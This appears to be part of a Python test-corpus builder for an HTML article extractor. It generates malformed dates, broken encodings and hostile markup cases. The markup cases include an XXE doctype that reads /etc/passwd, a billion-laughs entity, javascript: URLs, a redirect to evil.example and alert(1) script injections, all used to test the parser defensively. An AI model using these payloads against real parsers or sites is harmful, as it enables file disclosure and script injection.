        ("tz-plus-25", "2024-01-15T10:00:00+25:00", "15/01/2024 10:00 (GMT+25)"),
        ("tz-minus-99", "2024-01-15T10:00:00-99:99", "15/01/2024 10:00 GMT-99"),
        ("time-24-00", "2024-01-15T24:00:00+07:00", "15/01/2024 24:00"),
        ("arabic-indic-digits", "٢٠٢٤-٠١-١٥T١٠:٠٠:٠٠+07:00", "١٥/٠١/٢٠٢٤"),
        ("fullwidth-digits", "２０２４-０１-１５T１０:００:００+07:00", "１５/０１/２０２４ １０:００"),
        ("nul-inside", "2024-01-\x0015T10:00:00+07:00", "15/01/\x002024"),
        ("words", "Invalid Date", "NaN undefined null"),
        ("iso-week", "2024-W03-1", "tuần 3/2024"),
        ("epoch-ms", "1705287600000", "1705287600000"),
        ("empty", "", ""),
        ("far-future-relative", "2024-01-15T10:00:00+07:00", "9999999999 ngày trước"),
        ("leap-second", "2024-06-30T23:59:60+07:00", "30/06/2024 23:59:60"),
    ]
    for what, iso, visible in everywhere:
        for site in SITES:
            b.add("dates", f"{what}/{site}", site,
                  lambda s=site, iso=iso, v=visible: with_dates(sample_page(s, 6), iso, v, epoch="1000000000000000"))
    for i, (what, iso, visible) in enumerate(rotated):
        site = _rot(i)
        b.add("dates", f"{what}/{site}", site, lambda s=site, iso=iso, v=visible: with_dates(sample_page(s, 6), iso, v))
    for site in SITES:
        b.add("dates", f"thu-tam/{site}", site,
              lambda s=site: with_dates(sample_page(s, 7), "", "Thứ Tám, 15/01/2024, 10:00 (GMT+7)", weekday="Thứ Tám"))
        b.add("dates", f"year-2100-in-fixture/{site}", site,
              lambda s=site: with_dates(fixture_page(s), "2100-06-01T08:00:00+07:00", "01/06/2100 08:00"))


def _malformed(b: _Builder) -> None:
    def on(site: str, f: Callable[[str], Page], n: int = 8) -> Callable[[], Page]:
        return lambda: f(sample_page(site, n))

    def body(site: str, payload: str, *, end: bool = True) -> Callable[[], Page]:
        return lambda: inject_body(sample_page(site, 8), site, payload, end=end)

    def b_ytes(site: str, payload: bytes) -> Callable[[], Page]:
        def build() -> bytes:
            page = inject_body(sample_page(site, 8), site, "\x01MARK\x01", end=True).encode()
            return page.replace(b"\x01MARK\x01", payload)
        return build

    xxe = '<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    items: list[tuple[str, Callable[[str], Callable[[], Page]], dict[str, object]]] = [
        ("unclosed-tags", lambda s: on(s, lambda p: re.sub(r"</(?:p|div|span|a|li|ul|h1|article)>", "", p)), {}),
        ("cut-in-half", lambda s: on(s, lambda p: p[: len(p) // 2]), {}),
        ("cut-inside-tag", lambda s: on(s, lambda p: p[: BODY_OPEN[s].search(p).start() + 12]), {}),  # type: ignore[union-attr]
        ("unclosed-attribute-quote", lambda s: body(s, '<p class="x>Chữ sau dấu nháy không đóng.</p><p>Tiếp.</p>'), {}),
        ("nul-in-text-str", lambda s: body(s, "<p>Chữ\x00có\x00NUL ở giữa.</p>"), {}),
        ("nul-in-text-bytes", lambda s: b_ytes(s, b"<p>Ch\xe1\xbb\xaf\x00c\xc3\xb3 NUL.</p>"), {}),
        ("nul-in-title-str", lambda s: on(s, lambda p: re.sub(r"(<h1[^>]*>)", "\\1Tiêu\x00đề ", p, count=1)), {}),
        ("invalid-utf8-sequences", lambda s: b_ytes(s, b"<p>L\xc3i \xff\xfe gi\xe1\xbb\x9b\xc0\xaf overlong \xed\xa0\x80 surrogate \xf8\x88\x80\x80\x80 \xe1\xbb</p>"), {}),
        ("lone-surrogate-str", lambda s: body(s, "<p>Nửa \ud800 cặp \udfff thay thế.</p>"), {}),
        ("bom-in-middle-bytes", lambda s: b_ytes(s, b"<p>BOM\xef\xbb\xbfgi\xe1\xbb\xafa \xff\xfe d\xc3\xb2ng.</p>"), {}),
        ("bom-in-middle-str", lambda s: body(s, "<p>BOM\ufeffgiữa\ufeff dòng.</p>"), {}),
        ("mixed-cr-lf", lambda s: on(s, lambda p: p.replace("> <", ">\r<").replace("</p>", "</p>\r\n\n\r").replace(". ", ".\r")), {}),
        ("cr-only-bytes", lambda s: on(s, lambda p: p.replace(" ", "\r").encode()), {}),
        ("xml-decl-cp1258-on-str", lambda s: on(s, lambda p: '<?xml version="1.0" encoding="windows-1258"?>\n' + p), {}),
        ("xml-decl-ebcdic-on-bytes", lambda s: on(s, lambda p: ('<?xml version="1.0" encoding="cp500"?>\n' + p).encode()), {}),
        ("comment-never-closes", lambda s: body(s, "<p>Trước chú thích.</p><!-- không bao giờ đóng "), {}),
        ("comment-tricks", lambda s: body(s, "<p>a<!--></p><p>b<!--->c<!-- -- -->d<!--!>e</p><p>--></p>"), {}),
        ("cdata-in-html", lambda s: body(s, "<p><![CDATA[<script>alert(1)</script> dữ liệu ]]> sau CDATA.</p>"), {}),
        ("base-href-javascript", lambda s: on(s, lambda p: inject_head(p, '<base href="javascript:alert(1)//">')), {"scripted": True}),
        ("base-href-relative-garbage", lambda s: on(s, lambda p: inject_head(p, '<base href="http://[::1">')), {}),
        ("meta-refresh-elsewhere", lambda s: on(s, lambda p: inject_head(p, '<meta http-equiv="refresh" content="0; url=https://evil.example/">')), {}),
        ("plaintext-tag", lambda s: body(s, "<plaintext><p>Mọi thứ sau đây là chữ thô.</p>"), {}),
        ("xmp-and-listing", lambda s: body(s, "<xmp><b>không in đậm</b></xmp><listing><i>x</i></listing>"), {}),
        ("unclosed-textarea", lambda s: body(s, "<p>Trước</p><textarea>nuốt hết phần còn lại"), {}),
        ("unclosed-title", lambda s: on(s, lambda p: re.sub(r"</title>", "", p, count=1)), {}),
        ("unclosed-script", lambda s: body(s, "<p>Trước</p><script>var a = '"), {"scripted": True}),
        ("unclosed-style", lambda s: body(s, "<p>Trước</p><style>p{color:red}"), {"scripted": True}),
        ("early-html-close", lambda s: on(s, lambda p: p.replace("<body", "</body></html><body", 1)), {}),
        ("two-html-two-bodies", lambda s: on(s, lambda p: p + p), {}),
        ("frameset", lambda s: on(s, lambda p: p.replace("<body", '<frameset><frame src="javascript:alert(1)"></frameset><body', 1)), {"scripted": True}),
        ("no-head-no-body", lambda s: on(s, lambda p: re.sub(r"</?(?:html|head|body)\b[^>]*>", "", p)), {}),
        ("nested-anchors", lambda s: body(s, '<p><a href="/a">một <a href="/b">hai <a href="/c">ba</a></a></a></p>'), {}),
        ("svg-root", lambda s: lambda: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><text>SVG</text></svg>', {"scripted": True}),
        ("xhtml-namespaces", lambda s: on(s, lambda p: p.replace("<html", '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:x="urn:x"', 1).replace("<p>", "<x:p>", 3)), {}),
        ("numeric-entities-invalid", lambda s: body(s, "<p>&#0; &#x0; &#xD800; &#x110000; &#99999999999; &#x1F600; &#128; &#x9F;</p>"), {}),
        ("unterminated-entities", lambda s: body(s, "<p>&amp &lt &gt &nbsp &#106 &#x6a &ThisIsNotAnEntity; &</p>"), {}),
        ("c1-controls-and-nonchars", lambda s: body(s, "<p>C1\x80\x85\x9f và \ufffe\uffff\U0010FFFF không ký tự.</p>"), {}),
        ("bidi-and-zero-width", lambda s: on(s, lambda p: re.sub(r"(<h1[^>]*>)", "\\1\u202e\u200b\u200d\u2060\u00a0", p, count=1)), {}),
        ("html-xxe-doctype", lambda s: on(s, lambda p: xxe + re.sub(r"<!DOCTYPE[^>]*>", "", p, count=1).replace("</p>", "&xxe;&lol2;</p>", 2)),
         {"forbidden": ("root:x:0", "lollollol")}),
        ("null-byte-in-tag-name", lambda s: body(s, "<p\x00 onclick=alert(1)>Thẻ có NUL</p><scr\x00ipt>alert(2)</scr\x00ipt>"), {"scripted": True}),
        ("attribute-without-value-flood", lambda s: body(s, "<p " + " ".join(f"a{i}" for i in range(5_000)) + ">Nhiều thuộc tính.</p>"), {}),
        ("many-h1", lambda s: body(s, "<h1>Tiêu đề giả</h1>" * 1000), {}),
        ("image-urls-odd", lambda s: body(s, '<p><img src="//"><img src="http://"><img src="http://[::1"><img src=" "><img src="about:blank"><img src="blob:x"><img src="%"><img data-srcset=", ,">Ảnh lạ.</p>'), {}),
        ("pi-and-doctype-in-body", lambda s: body(s, "<?xml-stylesheet href='x'?><!DOCTYPE html><p>PI.</p>"), {}),
        ("noscript-in-body", lambda s: body(s, "<noscript><p>Bật JavaScript</p></noscript><p>Sau noscript.</p>"), {}),
    ]
    for i, (what, make, kw) in enumerate(items):
        sites = SITES if what in ("unclosed-tags", "nul-in-text-str", "invalid-utf8-sequences", "html-xxe-doctype",
                                  "lone-surrogate-str", "xml-decl-cp1258-on-str") else (_rot(i),)
        for site in sites:
            b.add("malformed", f"{what}/{site}", site, make(site), **kw)  # type: ignore[arg-type]


@lru_cache(maxsize=1)
def corpus() -> tuple[Case, ...]:
    b = _Builder()
    _empty_and_binary(b)
    _size(b)
    _nesting(b)
    _charsets(b)
    _legacy(b)
    _active(b)
    _jsonld(b)
    _dates(b)
    _malformed(b)
    return tuple(b.cases)


def counts() -> Counter[str]:
    return Counter(c.category for c in corpus())


if __name__ == "__main__":  # pragma: no cover
    for category, n in counts().items():
        print(f"{category:<16} {n}")
    print(f"{'total':<16} {len(corpus())}")
